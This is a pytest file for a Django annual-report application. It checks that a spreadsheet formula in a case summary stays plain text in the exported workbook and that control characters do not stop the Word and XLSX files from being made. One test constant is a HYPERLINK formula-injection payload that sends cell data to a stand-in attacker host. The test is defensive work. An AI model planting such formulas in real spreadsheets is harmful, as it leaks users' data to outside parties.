"""Text typed anywhere that reaches the outputs is only ever text (security review): a
formula in a case summary stays text in the published workbook, and a control character
pasted into a chapter does not stop the Word and XLSX files from being made."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.utils import timezone
from docx import Document as WordDocument
from openpyxl import load_workbook

from open_integriteit.annual_reports import document, privacy, services, tasks
from open_integriteit.annual_reports.models import AnnualReport
from open_integriteit.cases.tests.test_statistics import investigated_case

pytestmark = pytest.mark.django_db
AMSTERDAM = timezone.get_fixed_timezone(60)
FORMULA = '=HYPERLINK("https://attacker.invalid/?"&A1,"Klik")'


def test_a_formula_stays_text_and_control_characters_do_not_stop_the_files(
    org, team, personas, make_case, walk, django_capture_on_commit_callbacks
):
    alice = personas["alice"]
    investigated_case(
        team,
        make_case,
        walk,
        opened=dt.datetime(2025, 2, 3, 10, tzinfo=AMSTERDAM),
        closed=dt.datetime(2025, 9, 1, 10, tzinfo=AMSTERDAM),
        summary={"summary_description": FORMULA},
    )
    report = services.report_create(organisation=org, first_year=2025, last_year=2025, by=alice)
    section = report.sections.get(key="introduction")
    services.section_update(
        section=section, title=section.title, narrative="Een tekst\x0bmet\x01stuurtekens.", enabled=True, by=alice
    )
    for flag in privacy.open_flags(report, privacy.flags(report, document.build(report))):
        services.flag_accept(report=report, code=flag.code, reason="Invented.", by=alice)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_adopt(
            report=report, adopted_on=dt.date(2026, 3, 1), adopted_by="Invented", decision_reference="INV-9", by=alice
        )
    files = {f.format: tasks.file_content(f) for f in AnnualReport.objects.get(pk=report.pk).files.all()}
    assert sorted(files) == ["docx", "html", "pdf", "xlsx"]

    book = load_workbook(io.BytesIO(files["xlsx"]))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]

    word = "\n".join(p.text for p in WordDocument(io.BytesIO(files["docx"])).paragraphs)
    assert "Een tekstmetstuurtekens." in word
